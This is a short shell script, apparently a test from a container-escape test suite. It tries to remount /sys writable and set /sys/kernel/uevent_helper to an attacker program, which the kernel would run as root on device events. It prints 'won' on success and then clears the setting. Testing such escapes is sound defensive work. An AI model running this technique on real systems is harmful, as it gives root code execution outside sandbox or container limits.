# SPDX-License-Identifier: Apache-2.0
# A program of the attacker's that the kernel runs for every new device.
#
# The file in /sys is the machine's; the kernel runs what it names as root, outside of everything.
#
# ---
# tries: [B6]
# wins: said
# may_lack: uevent_helper
test -e /sys/kernel/uevent_helper || { echo 'lacking: no uevent_helper'; exit 77; }
mount -o remount,rw /sys 2>/dev/null
echo "$O/helper" > /sys/kernel/uevent_helper && echo won
echo > /sys/kernel/uevent_helper
